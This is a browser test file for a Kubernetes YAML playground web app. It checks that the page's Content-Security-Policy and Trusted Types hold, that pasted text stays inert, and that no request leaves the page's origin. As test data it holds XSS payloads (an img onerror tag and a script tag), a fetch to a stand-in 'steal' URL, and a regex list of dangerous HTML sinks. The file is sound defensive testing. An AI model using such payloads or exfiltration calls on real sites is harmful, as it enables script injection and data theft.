// The locked-down page (issue 9): the Content-Security-Policy is present and enforced and the
// app runs under it without a single violation; pasted text is never HTML anywhere it shows
// up; no request leaves the page's origin; storage trouble is a warning, never a crash; and
// no HTML-parsing DOM API appears in our sources. Headless Chromium against dist/.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { mkdir, readFile, readdir } from "node:fs/promises";
import path from "node:path";
import { DIST, ROOT, SCREENSHOTS, editorText, launchChromium, replaceText, serveDist, shareHash, waitEditable } from "./helpers.mjs";

const IMG = `<img src=x onerror="window.__pwned=1">`;
const SCRIPT = `<script>window.__pwned=1</script>`;

// Every kind of place a learner's text flows to: object names (Problems messages, hover
// cards), labels and selectors, annotations, images (events, pod details), container names.
// YAML single quotes keep both payloads verbatim.
const q = (s) => `'${s.replace(/'/g, "''")}'`;
const EVIL = `apiVersion: apps/v1
kind: Deployment
metadata:
  name: web
  labels:
    app: web
  annotations:
    note: ${q(IMG + SCRIPT)}
spec:
  replicas: 2
  selector:
    matchLabels:
      app: web
  template:
    metadata:
      labels:
        app: web
      annotations:
        note: ${q(SCRIPT)}
    spec:
      containers:
        - name: web
          image: ${q("nginx" + IMG)}
          resources:
            requests:
              cpu: 10m
              memory: 16Mi
---
apiVersion: v1
kind: Pod
metadata:
  name: ${q(IMG)}
  labels:
    app: ${q(SCRIPT)}
spec:
  containers:
    - name: ${q(SCRIPT)}
      image: ${q(SCRIPT)}
---
apiVersion: v1
kind: Service
metadata:
  name: ${q(SCRIPT)}
spec:
  selector:
    app: ${q(IMG)}
  ports:
    - port: 80
`;


let server;
let browser;
let dist;

before(async () => {
  server = await serveDist();
  browser = await launchChromium();
  dist = new Set(await listDist());
});

after(async () => {
  await browser?.close();
  await server?.close();
});

/**
 * A page that records CSP violations (`securitypolicyviolation`, registered before any page
 * script runs), page errors, console errors and every request of its context.
 */
async function open(options = {}) {
  const context = await browser.newContext({ viewport: { width: 1280, height: 800 }, ...options });
  const requests = [];
  context.on("request", (r) => requests.push(r.url()));
  await context.addInitScript(() => {
    window.__violations = [];
    document.addEventListener("securitypolicyviolation", (e) => {
      window.__violations.push(`${e.violatedDirective} blocked ${e.blockedURI || "inline"} (${e.sourceFile}:${e.lineNumber}) ${e.sample}`);
    });
  });
  const page = await context.newPage();
  const errors = [];
  page.on("pageerror", (e) => errors.push(String(e)));
  page.on("console", (m) => m.type() === "error" && errors.push(m.text()));
  return { context, page, errors, requests };
}

const violations = (page) => page.evaluate(() => window.__violations);
const hasPanels = (page) => page.locator('[data-testid="kubectl-input"]').count().then((n) => n > 0);

async function kubectl(page, line) {
  const before = await page.getByTestId("console-entry").count();
  await page.getByTestId("kubectl-input").fill(line);
  await page.getByTestId("kubectl-input").press("Enter");
  await page.getByTestId("console-entry").nth(before).waitFor();
  return page.getByTestId("console-entry").nth(before).textContent();
}

/**
 * Walks the first lesson if the app has lessons: open the index, start it, show a hint and
 * the solution, use the solution, go to the next step. Returns false when there are none.
 */
async function walkLesson(page, paste) {
  if ((await page.locator("#lessons-toggle").count()) === 0) return false;
  await page.click("#lessons-toggle");
  await page.locator(".lesson-entry .lesson-entry-head button").first().click();
  await page.locator(".lesson-card .lesson-prose").first().waitFor();
  if (paste) {
    await replaceText(page, paste);
    await page.waitForTimeout(600);
  }
  if (await page.locator("#lesson-hint").isEnabled()) await page.click("#lesson-hint");
  await page.click("#lesson-solution");
  await page.click("#lesson-use-solution");
  await page.waitForTimeout(600);
  if (await page.locator("#lesson-next").isEnabled()) {
    await page.click("#lesson-next");
    await page.locator(".lesson-card .lesson-prose").first().waitFor();
  }
  return true;
}

/** Nothing executed and no payload element exists, in the page or in any shadow root. */
async function assertInert(page, where) {
  const state = await page.evaluate(() => {
    const all = [];
    const walk = (root) => {
      for (const el of root.querySelectorAll("*")) {
        all.push(el);
        if (el.shadowRoot) walk(el.shadowRoot);
      }
    };
    walk(document);
    return {
      pwned: window.__pwned,
      // CodeMirror's own `<img class="cm-widgetBuffer">` (no src) around widgets is expected.
      imgs: all
        .filter((el) => el.tagName === "IMG" && (el.hasAttribute("src") || !el.classList.contains("cm-widgetBuffer")))
        .map((el) => el.outerHTML),
      scripts: all.filter((el) => el.tagName === "SCRIPT" && /__pwned/.test(el.textContent)).length,
      handlers: all.filter((el) => [...el.attributes].some((a) => /^on/i.test(a.name))).map((el) => el.tagName),
    };
  });
  assert.equal(state.pwned, undefined, `${where}: a payload ran`);
  assert.deepEqual(state.imgs, [], `${where}: an <img> element was created`);
  assert.equal(state.scripts, 0, `${where}: a payload <script> element was created`);
  assert.deepEqual(state.handlers, [], `${where}: an element has an inline event handler`);
}

test("the Content-Security-Policy is in the built page and only allows the page's own files", async () => {
  const html = await readFile(path.join(DIST, "index.html"), "utf8");
  const metas = [...html.matchAll(/<meta http-equiv="Content-Security-Policy" content="([^"]*)"/g)];
  assert.equal(metas.length, 1, "exactly one CSP meta element");
  // Before every script and stylesheet, so it governs all of them.
  assert.ok(html.indexOf(metas[0][0]) < html.search(/<script|<link rel="stylesheet"|<link rel="modulepreload"/));
  const csp = Object.fromEntries(
    metas[0][1].split(";").map((d) => {
      const [name, ...values] = d.trim().split(/\s+/);
      return [name, values];
    }),
  );
  assert.deepEqual(csp["default-src"], ["'self'"]);
  assert.deepEqual(csp["connect-src"], ["'self'"]);
  assert.deepEqual(csp["img-src"], ["'self'", "data:"]);
  assert.deepEqual(csp["object-src"], ["'none'"]);
  assert.deepEqual(csp["base-uri"], ["'none'"]);
  assert.deepEqual(csp["form-action"], ["'none'"]);
  assert.deepEqual(csp["style-src"], ["'self'"]);
  assert.deepEqual(csp["style-src-attr"], ["'unsafe-inline'"]);
  assert.equal(csp["style-src-elem"].length, 2);
  assert.match(csp["style-src-elem"][1], /^'nonce-[A-Za-z0-9]{16,}'$/);
  // Scripts: our files, wasm compilation, and one hash per inline script of the page.
  const inline = [...html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/g)].filter((m) => !/\bsrc=/.test(m[1]));
  assert.ok(inline.length >= 1, "trunk's inline loader");
  const { createHash } = await import("node:crypto");
  const hashes = inline.map((m) => `'sha256-${createHash("sha256").update(m[2]).digest("base64")}'`);
  assert.deepEqual(csp["script-src"], ["'self'", "'wasm-unsafe-eval'", ...hashes]);
  // Trusted Types: strings never reach an HTML-parsing sink; the only policy that may exist is
  // the service worker's (web/sw-register.js), which vouches for ./sw.js alone.
  assert.deepEqual(csp["require-trusted-types-for"], ["'script'"]);
  assert.deepEqual(csp["trusted-types"], ["kubeplay-sw"]);
  // No wildcard, no other host or scheme, no eval.
  for (const value of Object.values(csp).flat()) {
    assert.match(value, /^'(self|none|script|wasm-unsafe-eval|unsafe-inline|sha256-[A-Za-z0-9+/=]+|nonce-[A-Za-z0-9]+)'$|^data:$|^kubeplay-sw$/, value);
  }
  assert.ok(!csp["script-src"].includes("'unsafe-inline'"));
  assert.doesNotMatch(html, /<[^>]*\son[a-z]+\s*=/i, "no inline event handler in the page");
});

test("the policy is enforced: inline script, foreign fetch and foreign images are refused", async () => {
  const { context, page } = await open();
  await page.goto(server.url);
  await waitEditable(page);
  const result = await page.evaluate(async () => {
    // Setting a script's text from a string already throws (Trusted Types); a text node
    // child gets past that and is then refused by script-src (no matching hash).
    const s = document.createElement("script");
    let scriptText = "set";
    try {
      s.textContent = "window.__inlineRan = 1";
    } catch (e) {
      scriptText = e.name;
      s.append(document.createTextNode("window.__inlineRan = 1"));
    }
    document.body.append(s);
    // Markup from a string never reaches the parser (Trusted Types).
    let markup = "parsed";
    try {
      document.body.insertAdjacentHTML("beforeend", '<img src=x onerror="window.__pwned=1">'); // html-sink-ok: the test of the policy
    } catch (e) {
      markup = e.name;
    }
    // The one allowed policy exists already (the page made it) and cannot be made again, and
    // no other policy may be made to smuggle a URL or markup through.
    const policies = [];
    for (const name of ["kubeplay-sw", "evil"]) {
      try {
        trustedTypes.createPolicy(name, { createHTML: (x) => x, createScriptURL: (x) => x });
        policies.push(`${name}: made`);
      } catch (e) {
        policies.push(`${name}: ${e.name}`);
      }
    }
    let fetched = "no";
    try {
      await fetch("http://example.invalid/steal?x=1");
      fetched = "yes";
    } catch {
      fetched = "refused";
    }
    // A script from anywhere else is refused by script-src (dynamic import is no TT sink).
    let imported = "yes";
    try {
      await import("http://example.invalid/module.js");
    } catch {
      imported = "refused";
    }
    const img = new Image();
    img.src = "http://example.invalid/pixel.png";
    const style = document.createElement("style");
    style.textContent = "body { outline: 7px solid red }";
    document.head.append(style);
    await new Promise((r) => setTimeout(r, 200));
    img.remove();
    style.remove();
    s.remove();
    return { ran: window.__inlineRan, policies, fetched, imported, scriptText, markup, imgs: document.querySelectorAll("img[src]").length, v: window.__violations };
  });
  assert.equal(result.ran, undefined, "an inline script ran");
  assert.equal(result.scriptText, "TypeError");
  assert.equal(result.markup, "TypeError");
  assert.deepEqual(result.policies, ["kubeplay-sw: TypeError", "evil: TypeError"]);
  assert.equal(result.imgs, 0);
  assert.equal(result.fetched, "refused");
  assert.equal(result.imported, "refused");
  const directives = result.v.map((v) => v.split(" ")[0]);
  for (const d of ["script-src-elem", "connect-src", "img-src", "style-src-elem", "require-trusted-types-for"]) {
    assert.ok(directives.includes(d), `no ${d} violation in ${JSON.stringify(result.v)}`);
  }
  await context.close();
});

test("the app runs under the policy without a single violation", async () => {
  const { context, page, errors } = await open();
  await page.goto(server.url);
  await waitEditable(page);
  // CodeMirror's injected <style> carries the nonce and its styles apply (gutter laid out).
  assert.ok((await page.locator("style[nonce]").count()) >= 1, "CodeMirror's <style> has no nonce");
  assert.ok((await page.locator(".cm-gutters").boundingBox()).width > 10);
  await replaceText(page, "apiVersion: v1\nkind: Deployment\nmetadata:\n  name: api\n");
  await page.locator('button.problem[data-code="unknown-kind"]').waitFor();
  await page.locator(".cm-lintRange-error").first().hover();
  await page.locator(".cm-tooltip .kp-tip").first().waitFor();
  await page.keyboard.press("Control+f");
  await page.locator(".cm-search").waitFor();
  await page.keyboard.press("Escape");
  await page.click("#theme-toggle");
  if (await hasPanels(page)) {
    await page.getByTestId("play").click();
    await page.waitForTimeout(300);
    await page.getByTestId("play").click();
    await kubectl(page, "get pods");
  }
  await walkLesson(page);
  assert.deepEqual(await violations(page), []);
  assert.deepEqual(errors, []);

  // The crash screen and its Reload button (a listener, not an inline handler) work too.
  await page.evaluate(() => {
    try {
      window.wasmBindings.simulate_crash();
    } catch {}
  });
  await page.locator("#crash").waitFor();
  assert.deepEqual(await violations(page), []);
  const text = await editorText(page);
  await Promise.all([page.waitForEvent("load"), page.locator("#crash button").click()]);
  await waitEditable(page);
  assert.equal(await editorText(page), text);
  assert.deepEqual(await violations(page), []);
  await context.close();
});

test("pasted text is never HTML: editor, Problems, hover cards, panels, kubectl, share links", async (t) => {
  const { context, page, errors, requests } = await open();
  await page.goto(server.url);
  await waitEditable(page);

  await t.test("pasted into the editor", async () => {
    // A real paste (clipboard event), then the same text typed in, so both paths are used.
    await page.click(".cm-content");
    await page.keyboard.press("Control+A");
    await page.evaluate((text) => {
      const data = new DataTransfer();
      data.setData("text/plain", text);
      document.querySelector(".cm-content").dispatchEvent(new ClipboardEvent("paste", { clipboardData: data, bubbles: true, cancelable: true }));
    }, EVIL);
    assert.equal(await editorText(page), EVIL);
    // The payload reaches Problems as text: the Pod's name is not a DNS name.
    const entry = page.locator("button.problem").filter({ hasText: "<img src=x" }).first();
    await entry.waitFor();
    await page.locator("button.problem").filter({ hasText: "<script>" }).first().waitFor();
    await assertInert(page, "Problems");
  });

  await t.test("hover cards on every squiggle", async () => {
    const squiggles = page.locator(".cm-lintRange-error, .cm-lintRange-warning, .cm-lintRange-info");
    const n = Math.min(await squiggles.count(), 12);
    assert.ok(n >= 2, `only ${n} squiggles`);
    let shown = 0;
    for (let i = 0; i < n; i++) {
      await squiggles.nth(i).hover();
      await page.locator(".cm-tooltip .kp-tip").first().waitFor();
      if (/<img src=x|<script>/.test(await page.locator(".cm-tooltip").first().textContent())) shown++;
      await assertInert(page, `hover card ${i}`);
      await page.mouse.move(5, 5);
    }
    assert.ok(shown >= 1, "no hover card showed a payload as text");
  });

  if (await hasPanels(page)) {
    await t.test("simulated cluster, events and the kubectl bar", async () => {
      await page.locator(".playground[data-simulated]").waitFor({ timeout: 10000 });
      await page.getByTestId("speed").selectOption("60").catch(() => {});
      await page.getByTestId("play").click();
      await page.waitForTimeout(1500);
      await page.getByTestId("play").click();
      await assertInert(page, "cluster panel");
      for (const tab of await page.getByRole("tab").all()) {
        await tab.click();
        await assertInert(page, `panel ${await tab.textContent()}`);
      }
      // The Deployment is valid (payloads only in annotations and the image): its pods run.
      await page.getByRole("tab", { name: /Cluster/ }).click();
      const pod = await page.locator('[data-testid="pod"]').first().getAttribute("data-pod");
      assert.ok(pod, "no simulated pod");
      const described = await kubectl(page, `describe pod ${pod}`);
      assert.match(described, /nginx<img src=x/, "the image payload reached kubectl output as text");
      await assertInert(page, `describe pod ${pod}`);
      for (const line of [
        `get pods ${IMG}`,
        `describe pod ${SCRIPT}`,
        `${IMG}`,
        `logs ${IMG}`,
        `scale deploy/${IMG} --replicas=2`,
        `set image deploy/web web=${SCRIPT}`,
        "describe deploy web",
        "get events",
      ]) {
        const out = await kubectl(page, line);
        assert.ok(out.length > 0);
        await assertInert(page, `kubectl ${line}`);
      }
      // At least one output echoes a payload back, as text.
      const console = await page.getByTestId("console").textContent();
      assert.match(console, /<img src=x|<script>/);
      await page.getByTestId("play").click();
      await page.waitForTimeout(800);
      await page.getByTestId("play").click();
      await assertInert(page, "after replaying the kubectl steps");
      await mkdir(SCREENSHOTS, { recursive: true });
      await page.screenshot({ path: path.join(SCREENSHOTS, "security-payloads.png") });
    });
  }

  if ((await page.locator("#lessons-toggle").count()) > 0) {
    await t.test("a lesson step checked against pasted payloads", async () => {
      assert.ok(await walkLesson(page, EVIL));
      await assertInert(page, "lesson card");
      await mkdir(SCREENSHOTS, { recursive: true });
      await page.screenshot({ path: path.join(SCREENSHOTS, "security-lesson.png") });
    });
  }

  if ((await page.getByTestId("share").count()) > 0) {
    await t.test("share links carrying payloads, valid and malformed", async () => {
      const links = [
        shareHash(EVIL, { t: 30, steps: [[5, `scale deploy/web --replicas=3`], [10, `describe pod ${IMG}`], [12, SCRIPT]] }),
        shareHash(EVIL, { panel: IMG }),
        `#v1:${IMG}`,
        `#${encodeURIComponent(SCRIPT)}`,
        `#${SCRIPT}`,
        `#v9:${SCRIPT}`,
      ];
      for (const hash of links) {
        const p = await context.newPage();
        p.on("pageerror", (e) => errors.push(String(e)));
        await p.goto(server.url + hash);
        await waitEditable(p);
        await p.waitForTimeout(500);
        await assertInert(p, `share link ${hash.slice(0, 40)}`);
        assert.deepEqual(await violations(p), []);
        await p.close();
      }
    });
  }

  assert.deepEqual(await violations(page), []);
  assert.deepEqual(errors, []);
  assertSameOriginStatic(requests);
  await context.close();
});

test("no request leaves the page's origin while pasting, playing, using kubectl, opening a share link and walking a lesson", async () => {
  const { context, page, errors, requests } = await open();
  const foreign = [];
  // Anything not for our server is recorded and refused, so nothing can leave even if it tried.
  await context.route(
    (url) => url.origin !== new URL(server.url).origin,
    (route) => {
      foreign.push(route.request().url());
      return route.abort();
    },
  );
  await page.goto(server.url);
  await waitEditable(page);
  const secret = `apiVersion: v1
kind: Secret
metadata:
  name: db
stringData:
  password: hunter2-${Date.now()}
`;
  await replaceText(page, secret + "---\n" + EVIL);
  await page.locator("button.problem").first().waitFor();
  if (await hasPanels(page)) {
    await page.locator(".playground[data-simulated]").waitFor({ timeout: 10000 });
    await page.getByTestId("play").click();
    await page.waitForTimeout(1000);
    await page.getByTestId("play").click();
    await kubectl(page, "get pods");
    await kubectl(page, "describe deploy web");
    await kubectl(page, "get secret db -o yaml");
  }
  if ((await page.getByTestId("share").count()) > 0) {
    await page.getByTestId("share").click();
    const url = await page.getByTestId("share-url").inputValue();
    assert.ok(url.startsWith(server.url), url);
    const other = await context.newPage();
    await other.goto(url);
    await waitEditable(other);
    assert.match(await editorText(other), /hunter2/);
    await other.close();
  }
  await walkLesson(page, secret);
  await page.reload();
  await waitEditable(page);
  assert.deepEqual(foreign, []);
  assertSameOriginStatic(requests);
  // The secret reached no URL, not even as a query string to our own server.
  assert.ok(requests.every((u) => !/hunter2/.test(new URL(u).pathname + new URL(u).search)));
  assert.deepEqual(errors, []);
  await context.close();
});

test("localStorage full: a visible warning, editing goes on, saving resumes when space frees", async () => {
  const { context, page, errors } = await open();
  await page.goto(server.url);
  await waitEditable(page);
  const small = "apiVersion: v1\nkind: Deployment\nmetadata:\n  name: a\n";
  await replaceText(page, small);
  await page.locator('button.problem[data-code="unknown-kind"]').waitFor();
  await page.waitForFunction((t) => localStorage.getItem("kubeplay.text") === t, small);

  // Fill the origin's storage until the browser refuses even one more character.
  const filled = await page.evaluate(() => {
    let chunk = "x".repeat(1 << 20);
    let i = 0;
    let quota = false;
    while (chunk.length > 0) {
      try {
        localStorage.setItem(`fill.${i++}`, chunk);
      } catch (e) {
        quota = e.name === "QuotaExceededError";
        chunk = chunk.slice(0, chunk.length >> 1);
      }
    }
    return { quota, keys: localStorage.length };
  });
  assert.ok(filled.quota, "the browser reported QuotaExceededError");

  const bigger = small + "# " + "y".repeat(5000) + "\n";
  await page.evaluate((t) => globalThis.kubeplayEditor.setText(t), bigger);
  const warning = page.locator("#save-warning");
  await warning.waitFor();
  assert.match(await warning.textContent(), /refused to save/);
  // The app goes on: analysis still follows the text, and the last text that fit is kept.
  await replaceText(page, bigger.replace("kind: Deployment", "kind: Nope"));
  await page.locator('button.problem[data-line="2"]').waitFor();
  await page.locator('button.problem[data-code="unknown-kind"]').first().waitFor();
  assert.equal(await page.evaluate(() => localStorage.getItem("kubeplay.text")), small);
  await mkdir(SCREENSHOTS, { recursive: true });
  await page.screenshot({ path: path.join(SCREENSHOTS, "storage-full.png") });

  // Space again: the next edit saves and the warning goes away.
  await page.evaluate(() => {
    for (const k of Object.keys(localStorage)) if (k.startsWith("fill.")) localStorage.removeItem(k);
  });
  await page.click(".cm-content");
  await page.keyboard.press("Control+End");
  await page.keyboard.type("# more\n");
  await warning.waitFor({ state: "detached" });
  await page.waitForFunction(
    () => localStorage.getItem("kubeplay.text") === globalThis.kubeplayEditor.getText(),
    null,
    { timeout: 5000 },
  );
  assert.match(await page.evaluate(() => localStorage.getItem("kubeplay.text")), /# more\n/);
  assert.deepEqual(errors, []);
  assert.deepEqual(await violations(page), []);
  await context.close();
});

test("a crash while storage is full shows the unsaved text to copy, as text", async () => {
  const { context, page, errors } = await open();
  await page.goto(server.url);
  await waitEditable(page);
  await page.evaluate(() => {
    let chunk = "x".repeat(1 << 20);
    for (let i = 0; chunk.length > 0; i++) {
      try {
        localStorage.setItem(`fill.${i}`, chunk);
      } catch {
        chunk = chunk.slice(0, chunk.length >> 1);
      }
    }
  });
  const text = `apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: notes\ndata:\n  a: ${q(IMG + SCRIPT)}\n# ${"z".repeat(4000)}\n`;
  await page.evaluate((t) => globalThis.kubeplayEditor.setText(t), text);
  await page.evaluate(() => {
    try {
      window.wasmBindings.simulate_crash();
    } catch {}
  });
  const crash = page.locator("#crash");
  await crash.waitFor();
  assert.match(await crash.textContent(), /would not store your text/);
  assert.doesNotMatch(await crash.textContent(), /Your text was saved/);
  assert.equal(await page.locator("#crash-text").inputValue(), text);
  await assertInert(page, "crash screen");
  assert.notEqual(await page.evaluate(() => localStorage.getItem("kubeplay.text")), text);
  await mkdir(SCREENSHOTS, { recursive: true });
  await page.screenshot({ path: path.join(SCREENSHOTS, "crash-unsaved.png") });
  assert.deepEqual(await violations(page), []);
  // The panic itself is reported as a page error; nothing else is.
  assert.ok(errors.every((e) => /simulate_crash|unreachable|kubeplay crashed|panicked|RuntimeError/i.test(e)), errors.join("\n"));
  await context.close();
});

test("no HTML-parsing DOM API in our sources", async () => {
  // Text must reach the DOM as text nodes (Yew's `{text}`, textContent, createTextNode).
  // A line may opt out with `html-sink-ok: <why>` in a comment on the same line.
  const SINKS = [
    /\binner_?html\b/i,
    /\bouter_?html\s*=|set_outer_html/i,
    /set_inner_html/,
    /dangerouslySetInnerHTML/,
    /insertAdjacentHTML|insert_adjacent_html/,
    /document\.write(ln)?\s*\(|\.write_with_str|\bwriteln\b.*document/,
    /from_html_unchecked|VRaw|Html::from_html/,
    /createContextualFragment|create_contextual_fragment/,
    /\bDOMParser\b|parse_from_string/,
    /srcdoc/i,
    /set_attribute\(\s*"on[a-z]+"/,
    /setAttribute\(\s*["']on[a-z]+["']/,
  ];
  const JS_SINKS = [/\bnew Function\s*\(|\beval\s*\(/];
  const roots = ["crates", "web/editor/src", "scripts", "index.html", "web/styles.css"];
  const files = [];
  for (const r of roots) files.push(...(await listSources(path.join(ROOT, r))));
  assert.ok(files.some((f) => f.endsWith("panic.rs")) && files.some((f) => f.endsWith("editor.js")));
  const hits = [];
  for (const file of files) {
    const lines = (await readFile(file, "utf8")).split("\n");
    lines.forEach((line, i) => {
      if (/html-sink-ok:/.test(line)) return;
      for (const re of /\.m?js$/.test(file) ? [...SINKS, ...JS_SINKS] : SINKS) if (re.test(line)) hits.push(`${path.relative(ROOT, file)}:${i + 1}: ${line.trim()}`);
    });
  }
  assert.deepEqual(hits, []);
});

async function listSources(p, out = []) {
  const info = await import("node:fs/promises").then((fs) => fs.stat(p));
  if (info.isFile()) {
    out.push(p);
    return out;
  }
  for (const e of await readdir(p, { withFileTypes: true })) {
    if (e.name === "target" || e.name === "node_modules" || e.name === "dist") continue;
    const full = path.join(p, e.name);
    if (e.isDirectory()) await listSources(full, out);
    else if (/\.(rs|js|mjs|html|css|toml)$/.test(e.name)) out.push(full);
  }
  return out;
}

function assertSameOriginStatic(requests) {
  assert.ok(requests.length > 0);
  const origin = new URL(server.url).origin;
  for (const url of requests) {
    if (url.startsWith("data:")) continue;
    const u = new URL(url);
    assert.equal(u.origin, origin, `a request left the page's origin: ${url}`);
    assert.equal(u.search, "", `a request carried a query: ${url}`);
    const p = u.pathname === "/" ? "/index.html" : decodeURIComponent(u.pathname);
    assert.ok(dist.has(p), `not a static file of dist/: ${url}`);
  }
}

async function listDist(dir = "", out = []) {
  for (const e of await readdir(path.join(DIST, dir), { withFileTypes: true })) {
    const rel = path.posix.join(dir, e.name);
    if (e.isDirectory()) await listDist(rel, out);
    else out.push("/" + rel);
  }
  return out;
}
